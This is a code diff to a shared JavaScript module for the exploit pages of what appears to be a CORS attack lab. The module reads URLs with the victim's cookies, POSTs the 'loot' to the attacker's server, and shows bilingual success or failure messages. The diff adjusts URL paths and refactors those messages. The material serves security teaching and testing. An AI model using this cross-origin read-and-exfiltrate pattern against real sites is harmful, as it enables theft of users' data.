@@ -1,5 +1,6 @@
 // What every exploit page shares: its configuration, the tagged API URLs, reporting the
 // loot to the attacker's own server (its access log shows it), and showing the outcome.
+// Paths are relative to the page (`/<id>/`), wherever its router is mounted.
 
 export const config = JSON.parse(document.getElementById("config").textContent);
 
@@ -24,7 +25,7 @@ export async function readWithCookies(url) {
 
 /** Sends what the attack obtained to the attacker's server, as a real exploit would. */
 export async function report(loot) {
-  const url = new URL(`/${config.id}/loot`, location.origin);
+  const url = new URL("loot", location.href);
   if (config.lab) url.searchParams.set("lab", config.lab);
   try {
     await fetch(url, { method: "POST", body: JSON.stringify(loot), headers: { "Content-Type": "text/plain" } });
@@ -33,13 +34,18 @@ export async function report(loot) {
   }
 }
 
+/** How an outcome is announced: a trap springs, an attack succeeds. */
+const HEADLINES = config.kind === "page_calls"
+  ? { succeeded: { en: "The trap sprang", ja: "罠にかかりました" }, failed: { en: "The trap did not show", ja: "罠は現れませんでした" } }
+  : { succeeded: { en: "The attack succeeded", ja: "攻撃は成功しました" }, failed: { en: "The attack failed", ja: "攻撃は失敗しました" } };
+
 /** Shows the outcome and marks the page with it (`data-outcome`, for the lab and its tests). */
 export function finish(succeeded, loot, summary) {
-  document.body.dataset.outcome = succeeded ? "succeeded" : "failed";
+  const result = succeeded ? "succeeded" : "failed";
+  document.body.dataset.outcome = result;
+  const headline = HEADLINES[result];
   const outcome = document.getElementById("outcome");
-  outcome.textContent = succeeded
-    ? (ja ? `攻撃は成功しました: ${summary.ja}` : `The attack succeeded: ${summary.en}`)
-    : (ja ? `攻撃は失敗しました: ${summary.ja}` : `The attack failed: ${summary.en}`);
+  outcome.textContent = ja ? `${headline.ja}: ${summary.ja}` : `${headline.en}: ${summary.en}`;
   document.getElementById("loot").textContent = JSON.stringify(loot, null, 2);
   window.corslabLoot = loot;
 }
